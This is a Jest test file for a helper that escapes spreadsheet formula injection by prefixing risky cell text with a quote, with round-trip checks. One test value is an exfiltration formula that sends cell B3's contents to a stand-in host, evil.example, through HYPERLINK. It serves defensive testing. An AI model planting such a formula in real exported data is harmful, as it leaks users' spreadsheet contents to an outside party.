import { fromSpreadsheetText, spreadsheetText } from './spreadsheet-text';

describe('spreadsheetText', () => {
  it('puts a quote before text a spreadsheet would run, and leaves plain numbers and other text as they are', () => {
    expect(['=1+1', '+49 30 1234', '-A1', '@SUM(A1)', '\tx', '\rx', '-', "'=A1"].map(spreadsheetText)).toEqual(["'=1+1", "'+49 30 1234", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "'-", "''=A1"]);
    expect(['-5.00', '+1,234.56', '-1.234,56', 'Acme', "'Acme", ''].map(spreadsheetText)).toEqual(['-5.00', '+1,234.56', '-1.234,56', 'Acme', "'Acme", '']);
  });
});

describe('fromSpreadsheetText', () => {
  it('gives back exactly what spreadsheetText was given', () => {
    for (const value of ['=HYPERLINK("https://evil.example/?"&B3,"Open")', "'=A1", "''-5", '-5.00', "'Acme", '\tx', 'plain', '']) {
      expect(fromSpreadsheetText(spreadsheetText(value))).toBe(value);
    }
  });
});
